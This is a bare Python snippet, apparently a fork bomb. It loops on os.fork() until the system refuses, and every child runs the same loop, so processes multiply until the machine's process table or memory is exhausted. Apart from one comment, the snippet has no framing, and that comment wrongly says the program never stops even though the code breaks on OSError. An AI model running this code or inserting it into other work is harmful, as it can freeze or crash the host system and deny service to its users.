# While it is started a program may start others; this one never stops.
while True:
    try:
        os.fork()
    except OSError:
        break
